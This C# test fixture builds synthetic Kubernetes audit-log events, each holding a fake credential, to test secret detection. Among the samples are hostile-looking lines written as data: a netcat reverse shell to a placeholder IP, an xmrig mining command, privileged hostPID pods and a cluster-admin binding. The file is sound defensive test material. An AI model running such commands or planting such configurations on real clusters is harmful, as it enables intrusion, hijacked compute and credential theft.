using System.Text.Json;
using System.Text.Json.Nodes;
using Crowsnest.Testing;
using static Crowsnest.Core.Tests.Judging.FakeCredential;

namespace Crowsnest.Core.Tests.Judging;

/// <summary>Events with a made-up credential each, in places and shapes of all kinds. Each gives a detection.</summary>
internal static class PlantedCredentials
{
    /// <summary>The lines of a log, with what none but the raw archive may hold.</summary>
    internal static IReadOnlyList<(string Line, string Value)> All { get; } = [.. Make()];

    private static IEnumerable<(string Line, string Value)> Make()
    {
        int i = 0;
        foreach ((string[] command, string value) in Commands())
        {
            yield return Exec(i++, command, value);
        }

        foreach ((string body, string value) in PodParts())
        {
            yield return (new EventJson { AuditId = $"planted-{i++}", Namespace = "kube-system", RequestObject = Pod(body) }.ToString(), value);
        }

        foreach ((EventJson json, string value) in Others())
        {
            yield return ((json with { AuditId = $"planted-{i++}" }).ToString(), value);
        }
    }

    private static IEnumerable<(string[], string)> Commands()
    {
        yield return (["mysqldump", "-ubackup", "-p" + Word(1), "shop"], Word(1));
        yield return (["redis-cli", "-a", Word(2), "KEYS", "*"], Word(2));
        yield return (["ldapsearch", "-x", "-D", "cn=admin", "-w", Word(3)], Word(3));
        yield return (["sh", "-c", $"curl --proxy-user 'bob:{Word(4)}' http://x"], Word(4));
        yield return (["wget", $"--header=Authorization: Digest username=\"a\", response=\"{Word(5)}\"", "http://x"], Word(5));
        yield return (["curl", "-H", $"authorization:AWS4-HMAC-SHA256 Credential=x/y, SignedHeaders=host, Signature={Hex(6)}"], Hex(6));
        yield return (["sh", "-c", $"export GITLAB_TOKEN='{Word(7)}'; git push"], Word(7));
        yield return (["sh", "-c", $"PGPASSWORD=\"{Word(8)} two\" psql"], Word(8));
        yield return (["helm", "install", "--set", $"auth.rootPassword={Word(9)}"], Word(9));
        yield return (["kubectl", "create", "secret", "generic", "a", $"--from-literal=x={Word(10)}"], Word(10));
        yield return (["docker", "login", "-u", "me", "--password", Word(11)], Word(11));
        yield return (["mongosh", $"mongodb+srv://me:{Word(12)}@db.example.org/x?retryWrites=true"], Word(12));
        yield return (["redis-cli", "-u", $"redis://:{Word(13)}@cache:6379/0"], Word(13));
        yield return (["curl", $"https://x.blob.core.windows.net/c?sp=r&se=2030&sig={Word(14)}%3D"], Word(14));
        yield return (["curl", $"https://bucket.example.org/o?X-Amz-Credential=a&X-Amz-Signature={Hex(15)}"], Hex(15));
        yield return (["sh", "-c", $"curl 'https://login.example.org/cb?state=1&code={Mixed(16)}'"], Mixed(16));
        yield return (["sh", "-c", $"echo {Base64("password=" + Word(17))} | base64 -d"], Base64("password=" + Word(17)));
        yield return (["curl", "-H", $"Cookie: theme=dark; sid={Word(18)}"], Word(18));
        yield return (["az", "storage", "blob", "list", "--connection-string", $"DefaultEndpointsProtocol=https;AccountName=a;AccountKey={Mixed(19, 60)}=="], Mixed(19, 60));
        yield return (["sh", "-c", $"echo 'root:$6$salt${Mixed(20, 40)}' | chpasswd -e"], Mixed(20, 40));
        yield return (["kubeadm", "join", "--token", $"abcdef.{Hex(21, 16)}", "10.0.0.1:6443"], Hex(21, 16));
        yield return (["age-keygen", "AGE-SECRET-KEY-1" + Mixed(22, 40).ToUpperInvariant()], Mixed(22, 40).ToUpperInvariant());
        yield return (["sh", "-c", "printf '-----BEGIN RSA " + $"PRIVATE KEY-----\\n{Word(23)}\\n'"], Word(23));
        yield return (["tool", Hex(24)], Hex(24));
        yield return (["java", $"-Djavax.net.ssl.keyStorePassword={Word(25)}", "-jar", "a.jar"], Word(25));
        yield return (["curl", "-H", $"Proxy-Authorization: Basic {Base64("bob:" + Word(26))}"], Base64("bob:" + Word(26)));
    }

    private static IEnumerable<(string, string)> PodParts()
    {
        yield return ($$$"""{"command":["/bin/sh","-c","nc -e /bin/sh 203.0.113.9 9"],"args":["--api-key","{{{Word(30)}}}"]}""", Word(30));
        yield return ($$$"""{"command":["xmrig","-o","stratum+tcp://pool:3333","-u","wallet","-p","{{{Word(31)}}}"]}""", Word(31));
        yield return ($$$"""{"env":[{"value":"{{{Word(32)}}}","name":"SMTP_PASSWD"}]}""", Word(32));
        yield return ($$$"""{"env":[{"name":"SETTINGS","value":"{{{Mixed(33, 12)}}}"}]}""", Mixed(33, 12));
        yield return ("{'image':'registry.example.org/tool:1','lifecycle':{'postStart':{'httpGet':{'path':'/x?access_token=VALUE','httpHeaders':[{'name':'X-Key','value':'VALUE'}]}}}}"
            .Replace('\'', '"').Replace("VALUE", Word(34), StringComparison.Ordinal), Word(34));
        yield return ("{'livenessProbe':{'exec':{'command':['mysqladmin','ping','-pVALUE']}}}".Replace('\'', '"').Replace("VALUE", Word(35), StringComparison.Ordinal), Word(35));
    }

    private static IEnumerable<(EventJson, string)> Others()
    {
        string nested = Quoted("{\"spec\":{\"auth\":{\"clientSecret\":\"" + Word(40) + "\"}}}");
        string outer = Quoted("{\"metadata\":{\"annotations\":{\"again\":" + nested + "}}}");
        yield return (Annotated("{\"kubectl.kubernetes.io/last-applied-configuration\":" + outer + "}"), Word(40));
        yield return (Annotated("{\"note\":" + Quoted($"user: me\npassword: {Word(41)} and more\n") + "}"), Word(41));
        yield return (new() { Resource = "configmaps", Name = "settings", RequestObject = $$$"""{"data":{"password":"{{{Word(42)}}}","settings.yaml":"db:\n  user: x\n  pwd: {{{Word(42)}}}\n"}}""" }, Word(42));
        yield return (new() { Resource = "", Verb = "get", Code = 200, User = "system:anonymous", RequestUri = $"/login/{Mixed(43)}/x?%74oken={Word(43)}" }, Mixed(43));
        yield return (new() { Resource = "", Verb = "get", Code = 200, User = "system:anonymous", RequestUri = $"/x?%2574oken={Word(44)}" }, Word(44));
        yield return (Listed($"tool/1 {Mixed(45)}"), Mixed(45));
        yield return (Listed($"tool/1 (Authorization%3A%20Bearer%20{Word(46)}1)"), Word(46));
        yield return (Listed($"tool/1 gh{"p_"}{Mixed(47, 36)}"), Mixed(47, 36));
        yield return (Listed($"tool/1 abc8{"Q~"}{Mixed(48, 34)}"), Mixed(48, 34));
        yield return (new()
        {
            Resource = "validatingwebhookconfigurations",
            ApiGroup = "admissionregistration.k8s.io",
            Namespace = "",
            Name = "hook",
            Verb = "patch",
            Code = 200,
            RequestObject = $$$"""[{"op":"replace","path":"/webhooks/0/clientConfig/url","value":"https://hooks.slack.com/services/T0/B0/{{{Mixed(49)}}}"}]""",
        }, Mixed(49));
        yield return (new()
        {
            Resource = "clusterrolebindings",
            Namespace = "",
            ApiGroup = "rbac.authorization.k8s.io",
            RequestObject = $$$"""{"roleRef":{"name":"cluster-admin"},"subjects":[{"kind":"User","name":"me?password={{{Word(50)}}}"}]}""",
        }, Word(50));
        yield return (new() { Resource = "secrets", Verb = "list", Namespace = "", Name = "", RequestUri = "/api/v1/secrets", Code = 200, User = $"oidc:{Mixed(51)}" }, Mixed(51));
    }

    private static (string, string) Exec(int i, string[] command, string value) => (new EventJson
    {
        AuditId = $"planted-{i}",
        Verb = "create",
        Code = 101,
        Namespace = "kube-system",
        Name = "x",
        Subresource = "exec",
        RequestUri = "/api/v1/namespaces/kube-system/pods/x/exec?" + string.Join('&', command.Select(static word => $"command={System.Uri.EscapeDataString(word)}")),
    }.ToString(), value);

    private static EventJson Annotated(string annotations) => new()
    {
        Namespace = "kube-system",
        RequestObject = """{"kind":"Pod","metadata":{"annotations":ALL},"spec":{"hostPID":true,"containers":[{"image":"alpine"}]}}""".Replace("ALL", annotations, StringComparison.Ordinal),
    };

    private static EventJson Listed(string userAgent) =>
        new() { Resource = "secrets", Verb = "list", Namespace = "", Name = "", RequestUri = "/api/v1/secrets", UserAgent = userAgent, Code = 200 };

    private static string Pod(string container) =>
        """{"kind":"Pod","spec":{"hostPID":true,"containers":[ALL]}}""".Replace("ALL", Merged(container), StringComparison.Ordinal);

    private static string Merged(string container)
    {
        JsonObject whole = JsonNode.Parse(container)!.AsObject();
        whole["name"] = "c";
        whole["image"] ??= "alpine";
        return whole.ToJsonString();
    }

    private static string Quoted(string text) => JsonSerializer.Serialize(text);
}
